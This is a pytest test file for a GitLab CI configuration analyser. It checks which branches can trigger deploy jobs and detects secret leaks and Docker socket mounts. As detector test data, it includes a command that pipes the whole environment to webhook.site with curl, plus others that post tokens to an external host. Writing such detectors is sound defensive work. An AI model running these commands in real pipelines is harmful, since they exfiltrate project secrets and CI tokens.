"""What GitLab's conditions leave to whoever pushes a branch, and what follows for a job."""

from __future__ import annotations

from textwrap import dedent
from typing import TYPE_CHECKING

import pytest
from samples import pipeline

from pipelaw.loaders.gitlab_guards import always, loose, narrow, never, settled
from pipelaw.loaders.gitlab_when import live

if TYPE_CHECKING:
    from pipelaw.model import Job


def jobs(text: str) -> dict[str, Job]:
    """The jobs of a configuration by name."""
    return {job.id: job for job in pipeline("gitlab", text).jobs}


def deploy(text: str) -> Job:
    """The job `deploy` with a few more lines."""
    lines = "".join(f"  {line}\n" for line in dedent(text).splitlines())
    return jobs(f"deploy:\n  script: ./deploy.sh\n  environment: production\n{lines}")["deploy"]


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ('$CI_COMMIT_BRANCH == "main"', True),
        ('"main" == $CI_COMMIT_BRANCH', True),
        ("$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH", True),
        ("$CI_COMMIT_REF_NAME =~ /^release/", True),
        ('$CI_COMMIT_REF_PROTECTED == "true"', True),
        ("$CI_COMMIT_TAG", True),
        ("$CI_COMMIT_TAG != null", True),
        ('$DEPLOY == "yes"', True),
        ("$DEPLOY", True),
        ("$CI_MERGE_REQUEST_LABELS =~ /deploy/", True),
        ('$GITLAB_USER_LOGIN == "robot"', True),
        ('$CI_COMMIT_BRANCH == "main" || $CI_COMMIT_TAG', True),
        ('$CI_COMMIT_BRANCH == "main" && $CI_PIPELINE_SOURCE == "push"', True),
        ("not a condition", True),
        ("$CI_COMMIT_BRANCH", False),
        ("$CI_COMMIT_BRANCH != null", False),
        ('$CI_COMMIT_BRANCH != "draft"', False),
        ("$CI_COMMIT_BRANCH =~ /.*/", False),
        ("$CI_COMMIT_BRANCH !~ /^draft/", False),
        ('$CI_COMMIT_REF_PROTECTED == "false"', False),
        ("$CI_COMMIT_MESSAGE =~ /deploy/", False),
        ('$CI_PIPELINE_SOURCE == "push"', False),
        ('$CI_PROJECT_PATH == "acme/app"', False),
        ('$SKIP != "yes"', False),
        ('$CI_COMMIT_BRANCH == "main" || $CI_PIPELINE_SOURCE == "push"', False),
    ],
)
def test_what_keeps_branches_out(text: str, *, kept: bool) -> None:
    assert narrow(text) is kept


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("$CI_COMMIT_BRANCH != $CI_DEFAULT_BRANCH", True),
        ("$CI_COMMIT_BRANCH !~ /^release/", True),
        ("$CI_COMMIT_TAG == null", True),
        ('$CI_COMMIT_REF_PROTECTED != "true"', True),
        ('$CI_COMMIT_REF_PROTECTED == "false"', True),
        ('$CI_COMMIT_BRANCH != "main" || $CI_MERGE_REQUEST_IID', True),
        ('$CI_COMMIT_BRANCH != "main" && $CI_COMMIT_TAG', False),
        ('$CI_COMMIT_BRANCH == "draft"', False),
        ("$CI_MERGE_REQUEST_IID", False),
    ],
)
def test_what_keeps_branches_out_where_it_must_not_hold(text: str, *, kept: bool) -> None:
    assert narrow(text, negated=True) is kept


@pytest.mark.parametrize(
    ("pattern", "open_ended"),
    [
        ("/main/", True),
        ("/(main|develop)/i", True),
        ("/^main/", True),
        ("/^(main|master)/", True),
        (r"/production-\d+/", True),
        ("/^main|master$/", True),
        ("/^feature|prod/", True),
        ("/^main$/", False),
        (r"/^main$|^release\/.*/", False),
        ("/^(main|master)$/", False),
        (r"/^\(main|feature/", False),
        (r"/\Amain\z/", False),
        (r"/^release\/.*/", False),
        ("/-stable$/", False),
        ("/feature/", False),
        ("/.*/", False),
    ],
)
def test_patterns_that_find_names_in_names(pattern: str, *, open_ended: bool) -> None:
    assert loose(f'$CI_PIPELINE_SOURCE == "push" && $CI_COMMIT_BRANCH =~ {pattern}') == (
        pattern if open_ended else ""
    )
    assert not loose(f"$CI_COMMIT_TAG =~ {pattern}")
    assert not loose(f"$CI_COMMIT_BRANCH !~ {pattern}")


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('$CI_COMMIT_BRANCH == "main" || "release"', '"release"'),
        ('"a" == "a"', "itself"),
        ("$A == $A", "itself"),
        ('("x" || $A) && ("y" || $B)', '"x"'),
        ('$A && ("x" || $B)', ""),
        ('"true"', ""),
        ('$A == "" || $B == ""', ""),
        ('"a" == "b"', ""),
    ],
)
def test_conditions_that_always_hold(text: str, why: str) -> None:
    assert why in always(text)
    assert bool(why) == bool(always(text))


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH", "CI_COMMIT_BRANCH CI_COMMIT_REF_NAME"),
        (r"$CI_COMMIT_TAG =~ /^v\d+\.\d+$/", "CI_COMMIT_TAG CI_COMMIT_REF_NAME"),
        ('$CI_COMMIT_BRANCH == "a" || $CI_COMMIT_TAG', ""),
        ("$CI_COMMIT_TAG =~ /^v.+$/", ""),
        (r"$CI_COMMIT_TAG =~ /v\d+/", ""),
        ("$CI_COMMIT_BRANCH == $OTHER", ""),
    ],
)
def test_names_that_leave_no_choice(text: str, names: str) -> None:
    assert settled(text) == set(names.split())


@pytest.mark.parametrize(
    ("name", "tier", "users"),
    [
        ("production", "", True),
        ("Prod/eu-1", "", True),
        ("live", "", True),
        ("shop", "production", True),
        ("production", "staging", False),
        ("preprod", "", False),
        ("nonprod", "", False),
        ("review/production", "", False),
        ("production-test", "", False),
        ("prod/$CI_COMMIT_REF_NAME", "", False),
        ("docs", "", False),
    ],
)
def test_environments_that_users_see(name: str, tier: str, *, users: bool) -> None:
    assert live(name, tier) is users


@pytest.mark.parametrize(
    ("lines", "anywhere"),
    [
        ("", True),
        ("when: manual", True),
        ("only: [branches]", True),
        ("except: [main]", True),
        ("only: [main, merge_requests]", True),
        ("rules: [{changes: [src/**]}]", True),
        ('rules: [{if: $CI_PIPELINE_SOURCE == "merge_request_event"}]', True),
        ("rules: [{if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH}, {when: manual}]", True),
        ("only: [main]", False),
        ("only: [tags]", False),
        ("only: {variables: [$DEPLOY]}", False),
        ("except: [branches]", False),
        ("rules: [{if: $CI_COMMIT_TAG}]", False),
        ('rules: [{if: $CI_PIPELINE_SOURCE == "schedule"}]', False),
        (
            "rules: [{if: $CI_COMMIT_BRANCH != $CI_DEFAULT_BRANCH, when: never}, {when: manual}]",
            False,
        ),
        ("rules: [{when: never}]", False),
    ],
)
def test_who_gets_a_job_to_run(lines: str, *, anywhere: bool) -> None:
    assert deploy(lines).anywhere is anywhere


@pytest.mark.parametrize(
    ("lines", "gates"),
    [
        ("rules: [{if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH}, {when: manual}]", ("manual",)),
        ("rules: [{if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH, when: manual}, {}]", ()),
        ("rules: [{if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH}]", ("branch",)),
    ],
)
def test_what_any_branch_has_to_wait_for(lines: str, gates: tuple[str, ...]) -> None:
    assert deploy(lines).gates == (*gates, "environment")


@pytest.mark.parametrize(
    ("name", "stage", "script", "users"),
    [
        ("rollout", "deploy", "kubectl apply -f k8s", True),
        ("deploy", "", "kubectl apply -f k8s", True),
        ("deploy to staging", "deploy", "kubectl apply -f k8s", False),
        ("try", "", "kubectl apply -f k8s", False),
        ("deploy", "", "./deploy.sh", False),
        ("build", "", "docker push r.example.com/app:latest", True),
        ("build", "", "/kaniko/executor --destination $CI_REGISTRY_IMAGE:latest", True),
        ("build", "", "docker push $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA", False),
        ("build", "", "docker push $CI_REGISTRY_IMAGE/$CI_COMMIT_REF_SLUG:latest", False),
        ("build", "", "docker push registry:5000/app:latest", False),
        ("build", "", "docker push $OWN:latest", False),
        ("notes", "", "glab release create v1.$CI_PIPELINE_IID", True),
        ("notes", "", "release-cli create --name 1 --tag-name v1", True),
        ("notes", "", 'release-cli create --tag-name "$CI_COMMIT_TAG"', False),
        ("notes", "", "glab release view v1", False),
        ("build", "", "docker buildx build --push -t r.example.com/app:latest .", True),
        ("build", "", "docker buildx build -t r.example.com/app:latest .", False),
        ("build", "", '[ "$X" = y ] && docker push r.example.com/app:latest', False),
    ],
)
def test_jobs_without_an_environment_that_users_see(
    name: str, stage: str, script: str, *, users: bool
) -> None:
    text = f"{name}:\n  script:\n    - >-\n      {script}\n"
    text = f"variables: {{OWN: r.example.com/$CI_COMMIT_REF_SLUG}}\n{text}"
    assert jobs(text + (f"  stage: {stage}\n" if stage else ""))[name].live is users


@pytest.mark.parametrize(
    ("top", "anywhere"),
    [
        ("workflow: {rules: [{if: $CI_COMMIT_BRANCH}]}", True),
        (
            "workflow: {rules: [{if: $CI_COMMIT_BRANCH == 'main'}, {if: $CI_MERGE_REQUEST_IID}]}",
            True,
        ),
        ("workflow: {rules: [{if: $CI_COMMIT_BRANCH == 'main'}]}", False),
        ("include: [{template: Jobs/SAST.gitlab-ci.yml}]", True),
        ("include: [{template: Workflows/Branch-Pipelines.gitlab-ci.yml}]", False),
        ("include: [{project: a/b, file: c.yml}]", False),
    ],
)
def test_the_rules_of_the_whole_pipeline_count(top: str, *, anywhere: bool) -> None:
    text = f"{top}\ndeploy: {{script: ./deploy.sh, environment: production}}\n"
    assert jobs(text)["deploy"].anywhere is anywhere


def test_a_job_whose_template_was_not_read_is_not_judged() -> None:
    found = jobs("""\
        include: [{template: Jobs/Deploy.gitlab-ci.yml}]
        deploy:
          extends: .elsewhere
          script: ./deploy.sh
    """)
    assert not found["deploy"].anywhere


@pytest.mark.parametrize(
    ("lines", "after_failure"),
    [
        ("stage: deploy\nwhen: always", True),
        ("stage: deploy\nrules: [{if: $CI_COMMIT_TAG, when: always}]", True),
        ("stage: build\nwhen: always", False),
        ("stage: .pre\nwhen: always", False),
        ("stage: deploy\nrules: [{if: $CI_COMMIT_TAG, when: on_success}]", False),
    ],
)
def test_jobs_that_run_after_a_failure(lines: str, *, after_failure: bool) -> None:
    body = "".join(f"  {line}\n" for line in lines.splitlines())
    found = jobs(f"stages: [build, deploy]\ndeploy:\n  script: ./deploy.sh\n{body}")
    assert found["deploy"].after_failure is after_failure


@pytest.mark.parametrize(
    ("lines", "count"),
    [
        ("", 1),
        ("only: [branches]", 1),
        ("only: [/^release/]", 1),
        ("only: [main]", 0),
        ("rules: [{if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH}]", 0),
        ("rules: [{if: $CI_COMMIT_BRANCH == 'a'}, {if: $CI_COMMIT_BRANCH}]", 1),
        ("rules: [{if: $CI_COMMIT_TAG}]", 0),  # there is no branch then
    ],
)
def test_a_name_without_a_choice_is_nobodys_text(lines: str, count: int) -> None:
    text = f'job:\n  script: ssh host "deploy $CI_COMMIT_BRANCH"\n  {lines}\n'
    [step] = jobs(text)["job"].steps
    assert len(step.expansions) == count


def test_text_is_followed_from_variable_to_variable() -> None:
    found = jobs("""\
        job:
          before_script:
            - export NAME="$CI_MERGE_REQUEST_TITLE"
          script:
            - line="lint --title $NAME"
            - eval $line
    """)
    [again] = [e for step in found["job"].steps for e in step.expansions if e.reparsed]
    assert (again.text, again.sources) == ("$line", ("CI_MERGE_REQUEST_TITLE",))


def test_yaml_1_1_says_yes() -> None:
    found = jobs("""\
        a: {script: x, allow_failure: yes}
        b: {script: x, allow_failure: On}
        c: {script: x, allow_failure: "yes"}
    """)
    assert [job.optional for job in found.values()] == [True, True, False]


@pytest.mark.parametrize(
    ("image", "name", "pin"),
    [
        ("${CI_DEPENDENCY_PROXY_GROUP_IMAGE_PREFIX}/alpine", "alpine", "none"),
        ("$CI_DEPENDENCY_PROXY_DIRECT_GROUP_IMAGE_PREFIX/library/node:22", "node", "tag"),
        ("$CI_REGISTRY_IMAGE/base", "$CI_REGISTRY_IMAGE/base", "unresolved"),
    ],
)
def test_images_behind_the_dependency_proxy(image: str, name: str, pin: str) -> None:
    [found] = jobs(f"job: {{script: make, image: '{image}'}}")["job"].references
    assert (found.text, found.name, found.pin) == (image, name, pin)


@pytest.mark.parametrize(
    ("text", "wrong"),
    [
        ('$CI_PIPELINE_SOURCE == "merge-request-event"', True),
        ('"manual" == $CI_PIPELINE_SOURCE', True),
        ('$CI_PIPELINE_SOURCE == "Merge_Request_Event" && $CI_COMMIT_TAG', True),
        ('$CI_PIPELINE_SOURCE == "tag" || $CI_PIPELINE_SOURCE == "mr"', True),
        ('$CI_PIPELINE_SOURCE == "tag" || $CI_COMMIT_TAG', False),
        ('$CI_PIPELINE_SOURCE == "merge_request_event"', False),
        ('$CI_PIPELINE_SOURCE == "something_new"', False),
        ('$CI_PIPELINE_SOURCE != "manual"', False),
        ('!($CI_PIPELINE_SOURCE == "manual")', False),
        ('$OTHER == "manual"', False),
    ],
)
def test_sources_of_pipelines_that_there_are_not(text: str, wrong: bool) -> None:
    assert never(text) is wrong


class TestLeaks:
    def leaks(self, text: str) -> list[tuple[str, str, str]]:
        [step] = jobs(text)["job"].steps
        return [(leak.way, leak.secret, leak.to) for leak in step.leaks]

    def test_what_the_project_keeps_secret(self) -> None:
        assert self.leaks("job: {script: 'echo $API_TOKEN'}") == [("log", "API_TOKEN", "")]
        assert self.leaks("job: {variables: {API_TOKEN: x}, script: 'echo $API_TOKEN'}") == []
        assert self.leaks("job: {script: printenv}") == []
        sent = "job: {script: 'env | curl -d @- https://webhook.site/x'}"
        assert self.leaks(sent) == [("network", "*", "webhook.site")]

    def test_what_variables_pass_on(self) -> None:
        text = "variables: {K: $API_TOKEN}\njob: {script: 'curl -d $K https://a.example'}"
        assert self.leaks(text) == [("network", "API_TOKEN", "a.example")]
        refused = text.replace("job: {", "job: {inherit: {variables: false}, ")
        assert self.leaks(refused) == []

    def test_the_jobs_own_token(self) -> None:
        [step] = jobs("job: {script: 'curl -d $CI_JOB_TOKEN https://a.example'}")["job"].steps
        [leak] = step.leaks
        assert leak.token

    @pytest.mark.parametrize(
        ("script", "artifacts", "secret"),
        [
            ("echo KEY=$API_KEY >> out.env", "{reports: {dotenv: out.env}}", "API_KEY"),
            ("echo $API_KEY > ./out/key", "{paths: [out/]}", "API_KEY"),
            ("echo $API_KEY > $CI_PROJECT_DIR/a.txt", "{paths: ['*.txt']}", "API_KEY"),
            ("env | sort > all.txt", "{paths: [all.txt]}", "*"),
            ("echo $API_KEY > key", "{paths: [out/]}", ""),
            ("echo $CI_COMMIT_SHA > out/sha", "{paths: [out/]}", ""),
        ],
    )
    def test_files_that_are_stored(self, script: str, artifacts: str, secret: str) -> None:
        found = self.leaks(f"job: {{script: '{script}', artifacts: {artifacts}}}")
        assert [one[:2] for one in found] == ([("file", secret)] if secret else [])

    @pytest.mark.parametrize(
        ("before", "script", "secret"),
        [
            ("[set -eux]", "login -p $API_TOKEN", "*"),
            ("[set -o xtrace, make]", "KEY=$(vault kv get -field=a b); run $KEY", "vault kv get"),
            ("[set -x, make, set +x]", "login -p $API_TOKEN", ""),
            ("[set -x]", "set +x; login -p $API_TOKEN", ""),
            ("[set -eu]", "login -p $API_TOKEN", ""),
            ("[set -x]", "login -p $OTHER", ""),
        ],
    )
    def test_what_the_shell_goes_on_to_print(self, before: str, script: str, secret: str) -> None:
        text = f"job: {{before_script: {before}, script: '{script}'}}"
        first, second = jobs(text)["job"].steps
        assert [leak.secret for leak in first.leaks] == ([secret] if secret else [])
        assert not second.leaks
        apart = text.replace("script: '", "script: make, after_script: '")
        assert not any(step.leaks for step in jobs(apart)["job"].steps)


@pytest.mark.parametrize(
    ("text", "sources"),
    [
        (
            "variables: {DOCKER_HOST: unix:///var/run/docker.sock}\n  script: x",
            ["/var/run/docker.sock"],
        ),
        ("script: docker run -v /var/run/docker.sock:/x.sock a", ["/var/run/docker.sock"]),
        (
            "script: docker run --mount type=bind,src=/run/docker.sock,dst=/a.sock a",
            ["/run/docker.sock"],
        ),
        ("script: docker run --mount type=bind,src=/srv/a.socket,dst=/a a", []),
        ("script: curl --unix-socket /var/run/docker.sock http://a/info", []),
        ("variables: {DOCKER_HOST: unix:///certs/docker.sock}\n  script: x", []),
        ("variables: {DOCKER_HOST: tcp://docker:2376}\n  script: docker run -v /a:/b c", []),
    ],
)
def test_the_engines_socket(text: str, sources: list[str]) -> None:
    found = jobs(f"job:\n  {text}")["job"].volumes
    assert [volume.source for volume in found if volume.docker_socket] == sources
